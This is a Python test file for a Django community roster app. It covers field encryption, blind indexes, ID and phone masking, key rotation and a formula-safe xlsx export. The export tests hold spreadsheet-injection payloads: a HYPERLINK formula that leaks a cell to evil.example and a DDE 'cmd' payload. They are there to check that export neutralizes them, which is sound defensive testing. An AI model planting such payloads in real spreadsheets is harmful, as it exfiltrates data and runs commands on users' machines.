"""Personal data at rest (field encryption, blind indexes, masking, key rotation) and the roster export."""

from __future__ import annotations

import base64
import hashlib
import json
import zipfile
from datetime import date
from io import StringIO

import pytest
from cryptography.exceptions import InvalidTag
from django.core.exceptions import ImproperlyConfigured
from django.core.management import CommandError, call_command
from django.db import connection
from fixtures_import import make_id, read_workbook, write_csv

from tuanju.audit.models import AuditEvent
from tuanju.core.crypto import FieldCipher, cipher, mask_phone, mask_resident_id
from tuanju.imports.actions import run_file
from tuanju.imports.xlsx import FORMULA_TRIGGERS, safe_cell
from tuanju.people.actions import save_person
from tuanju.people.exporting import HEADER
from tuanju.people.models import Person

OLD_KEY = base64.b64encode(bytes(range(32))).decode()
NEW_KEY = base64.b64encode(bytes(range(100, 132))).decode()
ID1 = make_id("330782", date(1999, 3, 5), 1, male=True)
ID2 = make_id("330782", date(2001, 11, 20), 2, male=False)
PHONE1, PHONE2 = "13812345678", "13900001111"


@pytest.fixture(autouse=True)
def _fresh_cipher(settings):
    """The cipher is cached per process: rebuild it around every test that changes the keys."""
    cipher.cache_clear()
    yield
    cipher.cache_clear()


def use_keys(settings, *keys, blind: str | None = None):
    settings.FIELD_ENCRYPTION_KEYS = list(keys)
    if blind is not None:
        settings.BLIND_INDEX_KEY = blind
    cipher.cache_clear()
    return cipher()


def make_person(unit, name, rid="", phone="", **fields) -> Person:
    p = Person(unit=unit, name=name, **fields)
    p.set_resident_id(rid)
    p.set_phone(phone)
    p.save()
    return p


def key_id(text: str) -> bytes:
    return FieldCipher.key_id(base64.b64decode(text))


# --- the cipher --------------------------------------------------------------------------------


@pytest.mark.parametrize("value", [ID1, PHONE1, "中文备注", "x", "a" * 1000])
def test_round_trip(settings, value):
    c = use_keys(settings, OLD_KEY)
    blob = c.encrypt(value)
    assert isinstance(blob, bytes)
    assert c.decrypt(blob) == value
    assert c.decrypt(memoryview(blob)) == value
    assert len(blob) == 4 + 12 + len(value.encode()) + 16


def test_ciphertext_differs_each_time(settings):
    c = use_keys(settings, OLD_KEY)
    blobs = {c.encrypt(ID1) for _ in range(20)}
    assert len(blobs) == 20
    assert all(b[:4] == c.primary_key_id == key_id(OLD_KEY) for b in blobs)
    assert all(ID1.encode() not in b for b in blobs)


def test_empty_values(settings):
    c = use_keys(settings, OLD_KEY)
    assert c.encrypt(None) is None and c.encrypt("") is None
    assert c.decrypt(None) == "" and c.decrypt(b"") == ""
    assert c.blind_index(None) is None and c.blind_index("") is None


def test_tampered_ciphertext_is_refused(settings):
    c = use_keys(settings, OLD_KEY)
    blob = bytearray(c.encrypt(ID1))
    blob[-1] ^= 1
    with pytest.raises(InvalidTag):
        c.decrypt(bytes(blob))


def test_unknown_key_is_refused(settings):
    blob = use_keys(settings, OLD_KEY).encrypt(ID1)
    with pytest.raises(ValueError, match="not configured"):
        use_keys(settings, NEW_KEY).decrypt(blob)


def test_blind_index_is_stable_and_keyed(settings):
    c = use_keys(settings, OLD_KEY, blind="blind-one")
    first = c.blind_index(ID1)
    assert first == c.blind_index(ID1)
    assert len(first) == 32 and all(ch in "0123456789abcdef" for ch in first)
    assert first != c.blind_index(ID2)
    assert first != hashlib.sha256(ID1.encode()).hexdigest()[:32]
    # the same after a restart and after an encryption-key rotation; another blind key changes it
    assert use_keys(settings, NEW_KEY, OLD_KEY).blind_index(ID1) == first
    assert use_keys(settings, NEW_KEY, OLD_KEY, blind="blind-two").blind_index(ID1) != first


def test_default_keys_derive_from_secret_key(settings):
    settings.FIELD_ENCRYPTION_KEYS = []
    settings.BLIND_INDEX_KEY = ""
    cipher.cache_clear()
    c = cipher()
    assert c.decrypt(c.encrypt(PHONE1)) == PHONE1
    settings.SECRET_KEY = "another-secret-key-for-this-test-only-0123456789"
    cipher.cache_clear()
    assert cipher().blind_index(PHONE1) != c.blind_index(PHONE1)


@pytest.mark.parametrize(
    ("keys", "message"),
    [
        (["not base64!!"], "must be base64"),
        ([base64.b64encode(b"short").decode()], "must be 32 bytes"),
    ],
)
def test_bad_key_configuration(settings, keys, message):
    settings.FIELD_ENCRYPTION_KEYS = keys
    cipher.cache_clear()
    with pytest.raises(ImproperlyConfigured, match=message):
        cipher()


def test_cipher_needs_a_key():
    with pytest.raises(ImproperlyConfigured):
        FieldCipher([], b"blind")


# --- masking -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("number", "masked"),
    [
        ("33078219990305123X", "330782********123X"),
        (ID1, f"{ID1[:6]}********{ID1[-4:]}"),
        ("", ""),
        ("12345", "*****"),
        ("1234567890", "1234567890"),
    ],
)
def test_mask_resident_id(number, masked):
    assert mask_resident_id(number) == masked


@pytest.mark.parametrize(
    ("phone", "masked"),
    [("13812345678", "138****5678"), ("", ""), ("12345", "*****"), ("1234567", "1234567")],
)
def test_mask_phone(phone, masked):
    assert mask_phone(phone) == masked


# --- at rest -----------------------------------------------------------------------------------


def _raw_rows() -> list[tuple]:
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT * FROM {connection.ops.quote_name(Person._meta.db_table)}")  # noqa: S608
        return cursor.fetchall()


def _as_bytes(value) -> bytes:
    if value is None:
        return b""
    if isinstance(value, memoryview | bytes | bytearray):
        return bytes(value)
    return str(value).encode()


def test_database_never_holds_plain_ids_or_phones(world, staff, tmp_path, settings):
    use_keys(settings, OLD_KEY)
    save_person(
        Person(unit=world["330782"]),
        data={"name": "张三", "gender": "M"},
        resident_id=ID1,
        phone=PHONE1,
        actor=staff["yiwu_admin"],
    )
    path = write_csv(tmp_path / "r.csv", [["姓名", "身份证号", "手机号"], ["李四", ID2, PHONE2]])
    assert run_file("roster", path, world["330782"]).created == 1
    rows = _raw_rows()
    assert len(rows) == 2
    secrets = [ID1, PHONE1, ID2, PHONE2]
    for db_row in rows:
        for value in db_row:
            raw = _as_bytes(value)
            for secret in secrets:
                assert secret.encode() not in raw
                assert secret.encode("utf-16-le") not in raw
    for event in AuditEvent.objects.all():
        dumped = json.dumps(event.details, ensure_ascii=False)
        assert all(secret not in dumped for secret in secrets)
    zhang, li = Person.objects.order_by("pk")
    assert (zhang.reveal_resident_id(), zhang.reveal_phone()) == (ID1, PHONE1)
    assert (li.reveal_resident_id(), li.reveal_phone()) == (ID2, PHONE2)
    assert li.resident_id_masked == mask_resident_id(ID2)
    assert Person.objects.search(ID2).get() == li
    assert Person.objects.search("139 0000 1111").get() == li
    assert Person.objects.search("1111").get() == li


# --- key rotation ------------------------------------------------------------------------------


def _rotate(*args) -> tuple[dict, str]:
    out, err = StringIO(), StringIO()
    call_command("rotate-keys", *args, stdout=out, stderr=err)
    return json.loads(out.getvalue().strip().splitlines()[-1]), err.getvalue()


def test_rotate_keys(world, tmp_path, settings):
    use_keys(settings, OLD_KEY)
    people = [
        make_person(world["330782"], "张三", ID1, PHONE1),
        make_person(world["330782001"], "李四", ID2, ""),
        make_person(world["330782"], "王五", "", PHONE2),
        make_person(world["330782"], "赵六"),
    ]
    path = write_csv(tmp_path / "r.csv", [["姓名", "手机号"], ["钱七", "13700001111"]])
    run_file("roster", path, world["330782"])
    expected = {p.name: (p.reveal_resident_id(), p.reveal_phone()) for p in Person.objects.all()}
    assert expected["钱七"] == ("", "13700001111")
    before_bidx = dict(Person.objects.values_list("pk", "resident_id_bidx"))
    old_id = key_id(OLD_KEY)

    use_keys(settings, NEW_KEY, OLD_KEY)
    # still readable before the rotation has run
    assert {p.name: (p.reveal_resident_id(), p.reveal_phone()) for p in Person.objects.all()} == expected
    result, progress = _rotate("--batch-size", "2")
    assert result == {"checked": 5, "reencrypted": 4}  # 赵六 has nothing encrypted
    assert "5 checked, 4 re-encrypted" in progress
    new_id = key_id(NEW_KEY)
    for p in Person.objects.all():
        for blob in (p.resident_id_enc, p.phone_enc):
            assert blob is None or bytes(blob)[:4] == new_id != old_id
    assert dict(Person.objects.values_list("pk", "resident_id_bidx")) == before_bidx
    assert AuditEvent.objects.filter(action="update", details__rotation__reencrypted=4).exists()

    assert _rotate()[0] == {"checked": 5, "reencrypted": 0}  # nothing left under the old key

    use_keys(settings, NEW_KEY)  # the old key retired
    assert {p.name: (p.reveal_resident_id(), p.reveal_phone()) for p in Person.objects.all()} == expected
    assert Person.objects.search(ID1).get() == people[0]

    use_keys(settings, OLD_KEY)  # proof the rows really moved off the old key
    with pytest.raises(ValueError, match="not configured"):
        Person.objects.get(pk=people[0].pk).reveal_resident_id()


def test_rotate_keys_reindex_after_blind_key_change(world, settings):
    use_keys(settings, OLD_KEY, blind="blind-one")
    zhang = make_person(world["330782"], "张三", ID1, PHONE1)
    use_keys(settings, OLD_KEY, blind="blind-two")
    assert not Person.objects.search(ID1).exists()
    result, _ = _rotate("--reindex")
    assert result == {"checked": 1, "reencrypted": 1}
    assert Person.objects.search(ID1).get() == zhang
    assert Person.objects.search(PHONE1).get() == zhang
    zhang.refresh_from_db()
    assert zhang.reveal_phone() == PHONE1


# --- export ------------------------------------------------------------------------------------


def _export(tmp_path, *args, name="out.xlsx") -> tuple[list[list], str]:
    target = tmp_path / name
    out = StringIO()
    call_command("export-roster", "--output", str(target), *args, stdout=out)
    sheet = read_workbook(target)["花名册"]
    return sheet, out.getvalue()


def _sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(
            archive.read(n).decode()
            for n in archive.namelist()
            if n.startswith("xl/worksheets/") or n == "xl/sharedStrings.xml"
        )


DANGEROUS = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A2,"点我")',
    "notes": [
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "正常备注",
    ],
}


def test_export_masked_and_formula_safe(world, staff, tmp_path):
    unit = world["330782001001"]
    evil = make_person(unit, DANGEROUS["name"], ID1, PHONE1, employer="=1+1", skills="-", needs="@x")
    for i, note in enumerate(DANGEROUS["notes"]):
        make_person(world["330782"], f"青年{chr(0x4E00 + i)}", "", "", notes=note)
    make_person(world["330783"], "外县", ID2, PHONE2)
    sheet, out = _export(tmp_path, "--unit", "330782")
    assert out.strip() == f"exported {1 + len(DANGEROUS['notes'])} rows to {tmp_path / 'out.xlsx'}"
    assert sheet[0] == HEADER
    rows = {r[0].lstrip("'"): dict(zip(HEADER, r, strict=False)) for r in sheet[1:]}
    assert "外县" not in rows
    row = rows[evil.name]
    assert row["姓名"] == "'" + evil.name
    assert row["身份证号"] == f"{ID1[:6]}********{ID1[-4:]}"
    assert row["手机号"] == "138****5678"
    assert row["工作单位"] == "'=1+1" and row["特长"] == "'-" and row["需求"] == "'@x"
    assert row["所属单位"] == "华新社区" and row["单位编码"] == "330782001001"
    assert row["性别"] == "" and row["是否骨干"] == "否"
    notes = sorted(r["备注"] for r in rows.values() if r["姓名"].startswith("青年"))
    assert notes == sorted(safe_cell(n) for n in DANGEROUS["notes"])
    for note in DANGEROUS["notes"]:
        if note.startswith(FORMULA_TRIGGERS):
            assert safe_cell(note) == "'" + note
    assert "正常备注" in notes
    xml = _sheet_xml(tmp_path / "out.xlsx")
    assert "<f>" not in xml and "<f " not in xml
    assert ID1 not in xml and PHONE1 not in xml
    event = AuditEvent.objects.filter(action="export").latest("pk")
    assert event.details["rows"] == 1 + len(DANGEROUS["notes"])
    assert event.details["unmasked"] is False and event.actor is None


def test_imported_formula_text_is_neutralized_on_export(world, tmp_path):
    path = write_csv(
        tmp_path / "r.csv",
        [["姓名", "身份证号", "工作单位", "备注"], ["张三", ID1, "@平台", '=HYPERLINK("http://x","y")']],
    )
    assert run_file("roster", path, world["330782"]).created == 1
    sheet, _ = _export(tmp_path, "--unit", "330782")
    row = dict(zip(HEADER, sheet[1], strict=False))
    assert row["工作单位"] == "'@平台"
    assert row["备注"] == '\'=HYPERLINK("http://x","y")'
    assert row["出生日期"] is not None and row["性别"] == "男"


def test_export_unmasked_only_for_permitted_roles(world, staff, tmp_path):
    make_person(world["330782"], "张三", ID1, PHONE1)
    with pytest.raises(CommandError, match="--unmask needs --as-user"):
        _export(tmp_path, "--unit", "330782", "--unmask")
    with pytest.raises(CommandError, match="may not export unmasked"):
        _export(tmp_path, "--unit", "330782", "--unmask", "--as-user", "yiwu_cadre")
    with pytest.raises(CommandError, match="No active account"):
        _export(tmp_path, "--unit", "330782", "--as-user", "nobody")
    sheet, _ = _export(tmp_path, "--unit", "330782", "--unmask", "--as-user", "yiwu_admin")
    row = dict(zip(HEADER, sheet[1], strict=False))
    assert (row["身份证号"], row["手机号"]) == (ID1, PHONE1)
    event = AuditEvent.objects.filter(action="export").latest("pk")
    assert event.actor == staff["yiwu_admin"] and event.details["unmasked"] is True
    masked, _ = _export(tmp_path, "--unit", "330782", "--as-user", "yiwu_viewer", name="viewer.xlsx")
    assert dict(zip(HEADER, masked[1], strict=False))["身份证号"] == mask_resident_id(ID1)


def test_export_follows_the_users_scope(world, staff, tmp_path):
    make_person(world["330782"], "张三", ID1, PHONE1)
    make_person(world["330783"], "李四", ID2, PHONE2)
    sheet, out = _export(tmp_path, "--unit", "330782", "--as-user", "dongyang_cadre")
    assert sheet == [HEADER] and out.startswith("exported 0 rows")
    sheet, _ = _export(tmp_path, "--unit", "330700", "--as-user", "dongyang_cadre", name="city.xlsx")
    assert [r[0] for r in sheet[1:]] == ["李四"]
    with pytest.raises(CommandError, match="No unit with code"):
        _export(tmp_path, "--unit", "999999")
